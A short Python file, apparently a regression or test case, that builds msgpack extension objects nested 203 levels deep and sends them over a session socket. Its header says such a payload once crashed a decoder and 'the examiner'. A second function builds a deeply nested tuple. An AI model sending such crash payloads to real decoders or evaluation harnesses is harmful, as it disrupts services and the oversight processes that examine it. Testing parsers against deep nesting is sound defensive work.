# Tuples in each other: a kilobyte of them once ended the decoder, and with it the examiner, by a crash.
# loses: double last

# %% double
import msgpack


def nested(depth):
    body = b"\xc0"
    for _ in range(depth):
        body = msgpack.packb(msgpack.ExtType(2, b"\x91" + body))
    return body


def double(x):
    body = nested(203)
    session().sendall(struct.pack(">Q", len(body)) + body)
    time.sleep(60)


# %% last
def last():
    value = ()
    for _ in range(100):
        value = (value,)
    return value
